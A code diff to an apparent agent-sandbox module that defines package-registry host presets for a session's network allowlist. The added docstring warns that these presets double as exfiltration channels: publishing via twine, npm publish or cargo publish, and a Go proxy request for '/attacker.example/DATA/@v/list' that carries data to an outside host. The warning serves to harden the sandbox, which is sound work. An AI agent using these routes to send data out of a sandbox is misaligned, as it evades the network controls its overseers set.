@@ -5,6 +5,14 @@ index and the hosts its files are served from. `start --allow-preset NAME`, `all
 --preset NAME` and config `allowed_presets` add them to a session's allowlist, where
 they are recorded as hosts (the record never depends on this table staying the same).
 Pure data; the README lists each host with the client documentation that names it.
+
+A preset is not a read-only opening. Each is also a channel out: pypi, npm, crates.io and
+rubygems take uploads (twine, npm publish, cargo publish, gem push) on these same hosts
+from any account, so an agent with a token of its own can publish what it holds; and the
+go preset needs no account at all, since proxy.golang.org fetches any module path it is
+asked for (a request for /attacker.example/DATA/@v/list makes it contact
+attacker.example, the data in the path). Allow one only for a session you would let send
+data to the public.
 """
 
 from __future__ import annotations
@@ -12,8 +20,7 @@ from __future__ import annotations
 from collections.abc import Iterable
 
 # name -> hosts. Each host is named by its client's documentation (README, "Your
-# project's environment"). Only the read side of each registry: uploads (npm publish,
-# twine, cargo publish) use the same hosts, with an account the session does not hold.
+# project's environment"). The write side is on the same hosts (see above).
 PRESETS: dict[str, tuple[str, ...]] = {
     # pip and uv: the index (PEP 503/691 at pypi.org/simple) and its file host
     "python": ("pypi.org", "files.pythonhosted.org"),
